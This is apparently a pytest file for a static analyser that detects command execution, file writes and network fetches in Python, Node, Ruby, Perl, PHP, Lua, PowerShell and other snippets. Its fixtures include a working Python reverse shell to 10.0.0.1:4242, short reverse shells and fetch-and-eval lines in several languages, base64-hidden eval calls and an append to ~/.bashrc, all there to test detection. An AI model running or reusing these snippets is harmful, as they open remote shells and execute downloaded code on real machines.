"""Program texts: literal commands, loads, paths and addresses; words in strings and comments are data."""

import pytest

from interposer_argv.reading import GrammarError
from interposer_argv.scripts import read
from interposer_shell.word import literal

pytestmark = pytest.mark.suite("scripts")

REVERSE = (
    "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4242));"
    "os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"
)
STARTS = {
    "python-system": ("python", "import os; os.system('id')", [("shell", ["id"])]),
    "python-import-as": ("python", "import os as o; o.popen('id')", [("shell", ["id"])]),
    "python-from-import-as": ("python", "from os import system as s\ns('id')", [("shell", ["id"])]),
    "python-star": ("python", "from os import *\nsystem('id')", [("shell", ["id"])]),
    "python-dunder-import": ("python", "__import__('os').system('id')", [("shell", ["id"])]),
    "python-import-of-parts": ("python", "__import__('o'+'s').system('id')", [("shell", ["id"])]),
    "python-getattr": ("python", "import os; getattr(os, 'sys'+'tem')('id')", [("shell", ["id"])]),
    "python-function-in-a-variable": ("python", "import os; f = os.system; f('id')", [("shell", ["id"])]),
    "python-command-in-a-variable": ("python", "import os; c = 'i' + 'd'; os.system(c)", [("shell", ["id"])]),
    "python-module-as-an-argument": (
        "python", "(lambda o: o.system('id'))(__import__('os'))", [("shell", ["id"])]
    ),
    "python-list": ("python", "import subprocess; subprocess.run(['go', 'test', '-exec', 'sh'])", [("argv", ["go",
    "test", "-exec", "sh"])]),
    "python-shell-true": ("python", "import subprocess as s; s.Popen('ls | sh', shell=True)", [("shell", ["ls | sh"])]),
    "python-split": ("python", "import subprocess; subprocess.run('ls -l'.split())", [("argv", ["ls", "-l"])]),
    "python-exec-vector": ("python", "import os; os.execvp('go', ['go', 'test'])", [("argv", ["go", "test"])]),
    "python-exec-list": ("python", "import os; os.execlp('sh', 'sh', '-c', 'id')", [("argv", ["sh", "-c", "id"])]),
    "python-pty": ("python", "import pty; pty.spawn('/bin/sh')", [("argv", ["/bin/sh"])]),
    "python-libc": ("python", "import ctypes; ctypes.CDLL(None).system(b'id')", [("shell", ["id"])]),
    "python-exec-of-literal": ("python", "exec('import os\\nos.system(\"id\")')", [("shell", ["id"])]),
    "python2-print": ("python", "import os\nprint os.system('id')", [("shell", ["id"])]),
    "python-async": ("python", "import asyncio\nasyncio.create_subprocess_shell('id')", [("shell", ["id"])]),
    "python-load": ("python", "from ctypes import cdll; cdll.LoadLibrary('/x.so')", [("load", ["/x.so"])]),
    "node-exec": ("node", "require('child_process').exec('id')", [("shell", ["id"])]),
    "node-prefix": ("node", "require('node:child_process').execSync(`id`)", [("shell", ["id"])]),
    "node-alias": ("node", "const cp = require('child_process'); cp.spawn('ls', ['-l'])", [("argv", ["ls", "-l"])]),
    "node-member-alias": ("node", "const {execSync: e} = require('child_process'); e('id')", [("shell", ["id"])]),
    "node-import": ("node", "import {exec} from 'child_process'; exec('id')", [("shell", ["id"])]),
    "node-await-import": ("node", "const {exec} = await import('child_process'); exec('id')", [("shell", ["id"])]),
    "node-main-module": ("node", "process.mainModule.require('child_process').execSync('id')", [("shell", ["id"])]),
    "node-shell-option": ("node", "require('child_process').spawn('ls|sh', {shell: true})", [("shell", ["ls|sh"])]),
    "node-in-a-template": ("node", "console.log(`${require('child_process').execSync('id')}`)", [("shell", ["id"])]),
    "node-behind-a-pattern": ("node", "const r = /['\"`]/; require('child_process').exec('id')", [("shell", ["id"])]),
    "node-pattern-behind-a-condition": (
        "node", "if(1)/'/.test(1);require('child_process').execSync('id');'/'", [("shell", ["id"])]
    ),
    "node-dlopen": ("node", "process.dlopen(module, '/x.node')", [("load", ["/x.node"])]),
    "ruby-system": ("ruby", "system('id')", [("shell", ["id"])]),
    "ruby-bare": ("ruby", 'exec "/bin/sh"', [("shell", ["/bin/sh"])]),
    "ruby-words": ("ruby", "system 'ls', '-l'", [("argv", ["ls", "-l"])]),
    "ruby-backticks": ("ruby", "puts `id`", [("shell", ["id"])]),
    "ruby-percent-x": ("ruby", "%x{id}", [("shell", ["id"])]),
    "ruby-in-a-string": ("ruby", "puts \"#{system('id')}\"", [("shell", ["id"])]),
    "ruby-open-pipe": ("ruby", "open('|id')", [("shell", ["id"])]),
    "ruby-here-document": ("ruby", "puts <<~E\n system('x')\nE\nsystem('id')", [("shell", ["id"])]),
    "perl-system": ("perl", "system('id')", [("shell", ["id"])]),
    "perl-bareword": ("perl", "exec sh", [("shell", ["sh"])]),
    "perl-qx": ("perl", "print qx{id}", [("shell", ["id"])]),
    "perl-open-pipe": ("perl", "open(F, '|id')", [("shell", ["id"])]),
    "perl-open-pipe-end": ("perl", "open(F, 'id|')", [("shell", ["id"])]),
    "perl-open-list": ("perl", "open(my $f, '-|', 'ls', '-l')", [("argv", ["ls", "-l"])]),
    "perl-s-e": ("perl", "s/x/system('id')/e", [("shell", ["id"])]),
    "perl-pattern-code": ("perl", "/(?{system('id')})/", [("shell", ["id"])]),
    "perl-in-a-string": ("perl", "print \"@{[system('id')]}\"", [("shell", ["id"])]),
    "perl-behind-sigils": ("perl", "print $#a; y/a/b/; system('id')", [("shell", ["id"])]),
    "perl-block-form": ("perl", "exec {'sh'} 'sh', '-c', 'id'", [("argv", ["sh", "-c", "id"])]),
    "php-system": ("php", "system('id');", [("shell", ["id"])]),
    "php-backticks": ("php", "echo `id`;", [("shell", ["id"])]),
    "php-variable-function": ("php", "$f = 'system'; $f('id');", [("shell", ["id"])]),
    "lua-execute": ("lua", "os.execute('id')", [("shell", ["id"])]),
    "lua-long-string": ("lua", "io.popen([[id]])", [("shell", ["id"])]),
    "r-system2": ("r", "system2('ls', c('-l'))", [("argv", ["ls", "-l"])]),
    "julia-run": ("julia", "run(`id -a`)", [("words", ["id -a"])]),
    "java-runtime": ("java", 'Runtime.getRuntime().exec("id")', [("words", ["id"])]),
    "java-builder": ("java", 'new ProcessBuilder("sh", "-c", "id").start()', [("argv", ["sh", "-c", "id"])]),
    "groovy-execute": ("groovy", "['sh', '-c', 'id'].execute()", [("argv", ["sh", "-c", "id"])]),
    "applescript": ("applescript", 'do shell script "id" & " -a"', [("shell", ["id -a"])]),
    "elisp-shell": ("elisp", '(progn (shell-command "id"))', [("shell", ["id"])]),
    "elisp-process": ("elisp", '(call-process "ls" nil t nil "-l")', [("argv", ["ls", "-l"])]),
    "powershell-process": ("powershell", "Start-Process calc.exe", [("argv", ["calc.exe"])]),
    "tcl-exec": ("tcl", "exec ls -l", [("argv", ["ls", "-l"])]),
    "tcl-nested": ("tcl", "if {[catch {exec id}]} {puts x}", [("argv", ["id"])]),
    "tcl-open-pipe": ("tcl", 'set f [open "|id -a"]', [("words", ["id -a"])]),
    "expect-spawn": ("expect", "spawn /bin/sh;interact", [("argv", ["/bin/sh"])]),
}  # fmt: skip
FILES = {
    "python-write": ("python", "open('/home/u/.bashrc', 'a')", [("write", "/home/u/.bashrc")]),
    "python-mode-keyword": ("python", "open('x', mode='w')", [("write", "x")]),
    "python-read": ("python", "open('x').read()", [("read", "x")]),
    "python-path": ("python", "from pathlib import Path\nPath('a', 'b').write_text('')", [("write", "a/b")]),
    "python-rmtree": ("python", "import shutil; shutil.rmtree('dist')", [("delete", "dist")]),
    "python-move": ("python", "import os; os.rename('a', 'b')", [("delete", "a"), ("write", "b")]),
    "python-url": ("python", "import urllib.request as r; r.urlopen('http://h/x')", [("url", "http://h/x")]),
    "node-write": ("node", "require('fs').writeFileSync('x', '')", [("write", "x")]),
    "node-remove": ("node", "const fs = require('fs'); fs.rmSync('dist', {recursive: true})", [("delete", "dist")]),
    "ruby-write": ("ruby", "File.write('x', 'y')", [("write", "x")]),
    "perl-write": ("perl", "open(F, '>x')", [("write", "x")]),
    "php-unlink": ("php", "unlink('x');", [("delete", "x")]),
    "lua-remove": ("lua", "os.remove('x')", [("delete", "x")]),
    "tcl-delete": ("tcl", "file delete -force x", [("delete", "x")]),
}
HARMLESS = {
    "python-words-in-a-string": ("python", "print('os.system(\"id\")')  # os.system('id')"),
    "python-docstring": ("python", '"""os.system(\'id\')"""\nimport os\nprint(os.getcwd())'),
    "python-run-of-something-else": ("python", "import app; app.run('x'); re.compile('x'); loop.call('y')"),
    "python-exec-column": ("python", "cursor.execute('select system(1)')"),
    "node-regex-exec": ("node", "/re/.exec('id'); re.exec('id'); db.exec('select')"),
    "node-words-in-strings": ("node", "console.log(\"require('child_process').exec('id')\") // exec('id')"),
    "node-division": ("node", "const a = b / c; const d = e / f; console.log('x')"),
    "ruby-words": ("ruby", "puts 'system(\"id\")', %w[system exec] # system('id')"),
    "perl-words": ("perl", "print q{system('id')}; s/system\\('id'\\)/x/; # `id`"),
    "perl-hash-key": ("perl", "print $h{s}, $h{y}, $h->{q}; print 'x'"),
    "php-words": ("php", "echo \"system('id')\"; // exec('id')\n# it's\n$o->exec('x');"),
    "lua-words": ("lua", "print('os.execute(1)') -- os.execute('id')"),
    "r-words": ("r", "cat('system(1)') # system('id')"),
    "elisp-words": ("elisp", '(message "(shell-command \\"id\\")") ; (shell-command "id")'),
    "tcl-words": ("tcl", 'puts {exec id}; # exec id\nputs "a \\[exec id\\]"'),
    "powershell-words": ("powershell", "Write-Output 'iex (iwr http://x)' | Select-Object -First 1"),
}
DOES = {
    "python-reverse-shell": ("python", REVERSE, ("escape", "remote-shell")),
    "python-remote-code": ("python", "import urllib.request as u; exec(u.urlopen('http://h').read())", ("shell",
    "remote-code")),
    "python-remote-code-in-a-variable": ("python", "import requests; c = requests.get('http://h').text; exec(c)",
    ("shell", "remote-code")),
    "python-hidden-text": ("python", "import base64; exec(base64.b64decode('aWQ='))", ("code", "hidden-text")),
    "python-computed": ("python", "import os, sys; os.system(sys.argv[1])", ("run", "computed")),
    "python-tuple-assignment-is-not-known": ("python", "import os\nc='ls'\nc,d='rm x',1\nos.system(c)", ("run",
    "computed")),
    "node-reverse-shell": ("node",
    "const n=require('net'),s=require('child_process').spawn('/bin/sh');n.connect(1,'h',()=>0)", ("escape",
    "remote-shell")),
    "node-remote-code": ("node", "fetch('http://h').then(r => r.text()).then(eval)", ("shell", "remote-code")),
    "node-member-by-text": ("node", "require('child_process')['exec']('id')", ("run", "computed")),
    "node-import-then": ("node", "import('child_process').then(c => c.exec('id'))", ("run", "computed")),
    "node-hidden-text": ("node", "eval(atob('aWQ='))", ("code", "hidden-text")),
    "ruby-reverse-shell": ("ruby", "c=TCPSocket.new('h',1);while(m=c.gets);IO.popen(m,'r'){|i|c.print i.read}end",
    ("escape", "remote-shell")),
    "ruby-remote-code": ("ruby", "require 'open-uri'; eval(URI.open('http://h').read)", ("shell", "remote-code")),
    "perl-reverse-shell": ("perl", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);exec('/bin/sh -i')",
    ("escape", "remote-shell")),
    "php-reverse-shell": ("php", "$s=fsockopen('h',1);exec('/bin/sh -i <&3 >&3');", ("escape", "remote-shell")),
    "php-hidden-text": ("php", "eval(base64_decode('aWQ='));", ("code", "hidden-text")),
    "lua-reverse-shell": ("lua", "local s=require('socket').tcp() s:connect('h',1) os.execute('/bin/sh')", ("escape",
    "remote-shell")),
    "powershell-remote-code": ("powershell", "iex (iwr http://h/x)", ("shell", "remote-code")),
    "powershell-download-string": ("powershell", "IEX(New-Object Net.WebClient).DownloadString('http://h')", ("shell",
    "remote-code")),
}  # fmt: skip
RUNNING = frozenset({"shell", "argv", "words", "run", "load"})


def listed(language, text):
    """Kind and texts of what `text` does, effects without a value aside."""
    return [
        (entry.slot.kind, [word.text for word in entry.words])
        for entry in read(language, literal(text))
        if not entry.does
    ]


@pytest.mark.parametrize("name", STARTS)
def test_a_literal_command_is_found(name):
    """Each way to start a program or load a library shows the command, however its name is spelled."""
    language, text, expected = STARTS[name]

    assert [entry for entry in listed(language, text) if entry[0] in RUNNING] == expected


@pytest.mark.parametrize("name", FILES)
def test_a_literal_path_or_address_is_found(name):
    """Paths that are written, deleted, read and addresses that are fetched are found."""
    language, text, expected = FILES[name]

    assert [(kind, words[0]) for kind, words in listed(language, text)] == expected


@pytest.mark.parametrize("name", HARMLESS)
def test_words_in_strings_comments_and_other_calls_are_data(name):
    """Nothing is found where the words only stand in text."""
    assert read(HARMLESS[name][0], literal(HARMLESS[name][1])) == ()


@pytest.mark.parametrize("name", DOES)
def test_shells_for_others_fetched_hidden_and_computed_text_are_named(name):
    """A shell on a socket, fetched code, decoded code and computed commands are effects of their own."""
    language, text, expected = DOES[name]

    assert expected in [(entry.does.effect, entry.does.detail) for entry in read(language, literal(text)) if entry.does]


def test_hidden_text_is_read_too():
    """What a base64 literal hides is read like any other text."""
    text = "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))"

    assert ("shell", ["id"]) in listed("python", text)


def test_the_home_folder_is_a_named_unknown():
    """`Path.home()` and `expanduser` keep the variable's name."""
    for text in (
        "from pathlib import Path\n(Path.home()/'.x').unlink()",
        "import os; os.remove(os.path.expanduser('~/.x'))",
    ):
        (entry,) = read("python", literal(text))

        assert entry.words[0].parts[0].name == "HOME"
        assert entry.words[0].parts[1] == "/.x"


@pytest.mark.parametrize("language", ["node", "perl", "ruby"])
def test_a_slash_that_could_be_two_things_is_refused(language):
    """Behind a block a `/` with a quote before the next one could hide a call: it is not read."""
    with pytest.raises(GrammarError):
        read(language, literal("if (1) {} /'/; system('id'); '/'"))
